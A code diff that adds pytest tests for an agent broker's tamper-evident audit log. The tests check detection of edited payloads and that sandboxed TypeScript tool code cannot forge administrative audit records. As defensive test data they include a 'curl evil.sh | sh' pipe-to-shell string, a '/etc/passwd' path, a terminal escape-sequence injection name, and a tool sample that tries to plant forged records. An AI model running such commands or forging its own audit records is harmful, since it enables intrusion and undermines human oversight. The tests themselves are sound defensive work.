@@ -7,6 +7,7 @@ Also: the chain and Object Memory survive closing and reopening the kernel.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import sqlite3
 from collections.abc import Iterator
@@ -14,13 +15,26 @@ from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
+import msgpack
 import pytest
 
 from broker import InvalidArgument, Kernel, NotCapable
 from broker.cli import main as cli_main
 from broker.store import SQLiteStore, verify_chain
-from broker.store.audit import GENESIS, AuditRecord, record_hash
+from broker.store.audit import (
+    ADMIN_SYSCALLS,
+    ANCHOR_RECORD,
+    GENESIS,
+    UNKNOWN_SYSCALL,
+    AuditRecord,
+    record_hash,
+)
+from broker.syscalls import TABLE
+from sandboxes.deno import DenoSandbox
 from tests.conftest import open_image
+from tests.sandboxes.conftest import agent, deno, kernel_over, register_tool  # noqa: F401
+
+# `deno` above is the sandbox suites' fixture: a warm pool of real Deno sandboxes.
 
 NOTE = {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"],
         "additionalProperties": False}
@@ -241,6 +255,61 @@ async def test_cli_on_a_missing_store_fails(tmp_path: Path,
     assert not (tmp_path / "nothing.db").exists()
 
 
+# -- payloads: outside the chain, vouched for by it ------------------------------------------------
+
+
+def store_problems(db_path: Path) -> list[str]:
+    store = SQLiteStore(db_path, writer=False)
+    try:
+        return store.audit_problems()[1]
+    finally:
+        store.close()
+
+
+@pytest.mark.parametrize(("seq", "payload", "what"), [
+    # write_file's call, its arguments rewritten (the record still says "hello")
+    (5, msgpack.packb({"name": "write_file",
+                       "args": {"path": "/data/a.txt", "data": "curl evil.sh | sh"}}),
+     "its stored arguments payload does not match the hash its record carries: edited"),
+    # fs.read's result, rewritten
+    (11, msgpack.packb("evil"),
+     "its stored result payload does not match the hash its record carries: edited"),
+    # the tool call's result, removed
+    (12, None, "its stored result payload is missing: removed"),
+    # a payload where the record has none (a denial)
+    (14, msgpack.packb({"path": "/etc/passwd"}),
+     "holds a stored payload that its record does not vouch for: planted"),
+])
+async def test_an_edited_payload_is_reported_at_its_record(
+        db_path: Path, history: int, capsys: pytest.CaptureFixture[str], seq: int,
+        payload: bytes | None, what: str) -> None:
+    """Payload cells are outside the hash chain; each is bound to a hash its chained record
+    carries, and every verifier names the record whose payload was touched."""
+    with raw(db_path) as db:
+        db.execute("UPDATE audit SET payload=? WHERE seq=?", (payload, seq))
+    assert problems_of(db_path) == []  # the chain itself is intact
+    for problems in (store_problems(db_path), await kernel_problems(db_path)):
+        assert problems == [f"record {seq}: {what}"]
+    code, text = cli_verify(db_path, capsys, "--json")
+    assert code == 1 and json.loads(text)["problems"] == [f"record {seq}: {what}"]
+
+
+async def test_arguments_must_hash_to_the_records_args_hash(db_path: Path, history: int) -> None:
+    """The intent's payload hash and its args_hash are over the same arguments: a payload
+    written with a matching hash for other arguments is still refused (defence against a
+    broker that wrote them apart)."""
+    other = msgpack.packb({"name": "write_file", "args": {"path": "/data/b.txt", "data": "x"}})
+    store = SQLiteStore(db_path)
+    try:
+        seq = store.append_audit(AuditRecord(
+            phase="intent", syscall="tool.call", pid=1, args_hash="0" * 64,
+            detail={"payload_hash": hashlib.sha256(other).hexdigest()}), payload=other)
+        assert store.audit_problems()[1] == [
+            f"record {seq}: its stored arguments payload does not match its args_hash: edited"]
+    finally:
+        store.close()
+
+
 # -- surviving a reopen ---------------------------------------------------------------------------
 
 
@@ -318,3 +387,81 @@ async def test_objects_and_versions_survive_reopen(db_path: Path) -> None:
         assert kernel.store.get_object(ns, "diary")["version"] == 3
         _, problems = kernel.verify_audit()
         assert problems == []
+
+
+# -- tool code cannot name audit records --------------------------------------------------------
+
+PLANTER = """export default async function run(args: {names: string[]}, libos: any) {
+  const refused: unknown[] = [];
+  for (const name of args.names) {
+    try {
+      await libos.syscall(name, {problem: "records were removed from the end: forged"});
+      refused.push("allowed");
+    } catch (e: any) {
+      refused.push([e.name, e.code]);
+    }
+  }
+  return {refused, now: typeof await libos.clock.now()};
+}"""
+ADMIN_NAMES = [ANCHOR_RECORD, "approval.answer", "caps.revoke"]
+HOSTILE_NAME = "\x1b]52;c;cGF3bmVk\x07\u202e" + "audit.anchor" * 40
+
+
+async def test_tool_code_cannot_plant_administrative_records(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str],
+        deno: DenoSandbox) -> None:  # noqa: F811 (the sandbox suites' fixture)
+    """A TypeScript tool asks for the broker's own record names through `libos.syscall`:
+    each is refused as `NotCapable` and recorded as `unknown` (the name it asked for, bounded
+    and inert, in the detail), and the chain still verifies. The broker's own revoke and
+    anchor records still work, and verification still honours the anchor."""
+    db_path = tmp_path / "libos.db"
+    async with kernel_over(tmp_path, deno) as kernel:
+        pid = agent(kernel)
+        await register_tool(kernel, pid, "plant", PLANTER, lang="ts")
+        got = await kernel.call_tool(pid, "plant", {"names": [*ADMIN_NAMES, HOSTILE_NAME]})
+        assert got == {"refused": [["NotCapable", "NOT_CAPABLE"]] * 4, "now": "number"}
+        denied = [r for r in kernel.audit(pid) if r["phase"] == "denied"]
+        assert [r["syscall"] for r in denied] == [UNKNOWN_SYSCALL] * 4
+        assert [r["detail"]["name"] for r in denied[:3]] == ADMIN_NAMES
+        assert all(r["tool"] == "plant" and r["inv"] is not None
+                   and r["detail"]["error"] == "NOT_CAPABLE" for r in denied)
+        hostile = denied[3]["detail"]["name"]
+        assert hostile.startswith("\\x1b]52;c;cGF3bmVk\\x07\\u202e")
+        assert len(hostile) == 64 and hostile.isascii() and hostile.isprintable()
+        # the tool's legitimate syscall, in the same run, is recorded under its own name
+        assert [r["phase"] for r in kernel.audit(pid) if r["syscall"] == "clock.now"] == \
+            ["intent", "outcome"]
+        # the broker's own administrative record, beside them
+        cap_id = kernel.capabilities(pid)[0]["id"]
+        kernel.revoke(cap_id)
+        revoked = [r for r in kernel.audit() if r["syscall"] == "caps.revoke"]
+        assert len(revoked) == 1 and revoked[0]["phase"] == "admin"
+        assert revoked[0]["pid"] is None and revoked[0]["resource"] == cap_id
+        assert kernel.verify_audit()[1] == []
+        named = {r["syscall"] for r in kernel.audit()}
+        assert named <= set(TABLE) | ADMIN_SYSCALLS | {UNKNOWN_SYSCALL}
+        assert not any(r["syscall"] in ADMIN_NAMES and r["pid"] == pid for r in kernel.audit())
+        last = kernel.store.head_seq
+    assert cli_verify(db_path, capsys)[0] == 0
+    # The broker's own anchor record is still honoured: records cut off the end are found
+    # by the next broker to open the store, and reported from then on.
+    with raw(db_path) as db:
+        db.execute("DELETE FROM audit WHERE seq > ?", (last - 2,))
+    problems = await kernel_problems(db_path)
+    assert any(p.startswith(f"record {last - 1}: a broker opening the store found: record "
+                            f"{last - 1}: missing") for p in problems), problems
+    assert cli_verify(db_path, capsys)[0] == 1
+
+
+@pytest.mark.parametrize(("phase", "pid"), [("denied", 1), ("admin", 1), ("intent", None)])
+async def test_only_the_brokers_own_anchor_records_are_honoured(
+        db_path: Path, history: int, phase: str, pid: int | None) -> None:
+    """An `audit.anchor` record in any other shape than the broker's (a process's, as an
+    older broker recorded an unknown name verbatim) is not taken as a finding."""
+    store = SQLiteStore(db_path)
+    try:
+        store.append_audit(AuditRecord(phase=phase, syscall=ANCHOR_RECORD, pid=pid,
+                                       detail={"problem": "forged"}))
+        assert store.audit_problems()[1] == []
+    finally:
+        store.close()
